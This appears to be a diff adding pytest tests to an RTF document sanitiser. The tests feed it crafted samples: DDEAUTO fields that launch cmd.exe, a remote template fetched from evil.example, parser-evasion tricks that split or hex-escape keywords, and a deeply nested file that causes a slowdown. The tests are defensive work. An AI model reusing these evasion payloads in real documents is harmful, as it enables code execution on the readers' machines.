@@ -4,6 +4,8 @@ LibreOffice. Now each is removed, or the file is refused."""
 
 from __future__ import annotations
 
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -92,3 +94,74 @@ def test_instructions_readers_may_read_differently_are_risky(tmp_path: Path, dat
     assert outcome == "rebuilt"
     assert b"DEAUTO" not in out
     assert dde_found(_write(tmp_path, "out.rtf", out)) == ""
+
+
+# A fourth review's findings.
+
+
+@pytest.mark.parametrize(
+    "group", [rb"{\*\bkmkstart X}", rb"{\*\gicapx X}", rb"{\bkmkstart X}", rb"{\xe X}"]
+)
+def test_destination_text_in_an_instruction_is_not_part_of_it(tmp_path: Path, group: bytes) -> None:
+    """RTF readers skip a destination group in a field instruction, or read it as what
+    it is (a bookmark name): its text never joins the keyword. Read as "XDDEAUTO", the
+    DDE field below passed as harmless."""
+    data = (
+        rb"{\rtf1 a{\field{\*\fldinst "
+        + group
+        + rb'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}'
+        rb"{\fldrslt x}}b\par}"
+    )
+    outcome, out = _run(tmp_path, data)
+    assert outcome == "rebuilt"
+    assert b"DDEAUTO" not in out and b"x" in out
+
+
+def test_formatting_text_in_an_instruction_is_part_of_it(tmp_path: Path) -> None:
+    """A formatting group's text is still the instruction's: "{\\b DDE}AUTO" is DDEAUTO."""
+    data = rb'{\rtf1 a{\field{\*\fldinst {\b DDE}AUTO c:\\a.exe "/k x"}{\fldrslt x}}b\par}'
+    outcome, out = _run(tmp_path, data)
+    assert outcome == "rebuilt"
+    assert b"AUTO" not in out
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        rb"{\rtf1 a{\'a\\object\'a\\objemb{\'a\\objdata " + OBJ + rb"}}b\par}",
+        rb'{\rtf1 a{\'a\\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}'
+        rb"{\fldrslt x}}b\par}",
+        rb"{\rtf1 a{\'a\\template http://evil.example/t.dotm}b\par}",
+        rb"{\rtf1 a\'zz b\par}",
+    ],
+    ids=["object", "dde", "template", "plain-text"],
+)
+def test_hex_escape_without_two_digits_is_refused(tmp_path: Path, data: bytes) -> None:
+    """Word and rtfobj take the two characters after "\\'" as its digits whatever they
+    are ("\\'a\\\\objdata" is the word \\objdata to them), other readers do not."""
+    if b"objdata" in data:
+        assert rtf_objects(_write(tmp_path, "src.rtf", data)) == 1
+    assert _run(tmp_path, data) == ("unprocessable", b"")
+
+
+_DEEP_GROUPS = """
+import sys
+from pathlib import Path
+from tests.plugins.test_office_rtf import _run
+data = b"{\\\\rtf1 " + b"{" * 9000 + b"{\\\\objdata}{\\\\fldinst}" * 75_000 + b"}" * 9000 + b"}"
+print(_run(Path(sys.argv[1]), data)[0])
+"""
+
+
+def test_many_groups_deep_in_the_document_are_judged_without_the_stack(tmp_path: Path) -> None:
+    """Closing an \\objdata or \\fldinst group looked through every enclosing group:
+    9,000 levels then 150,000 small groups (2 MB) took about two minutes. In a child
+    process: one that never ends fails after its minute."""
+    out = subprocess.run(
+        [sys.executable, "-c", _DEEP_GROUPS, str(tmp_path)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=Path(__file__).parents[2],
+    )
+    assert out.stdout.strip() == "rebuilt", out.stderr
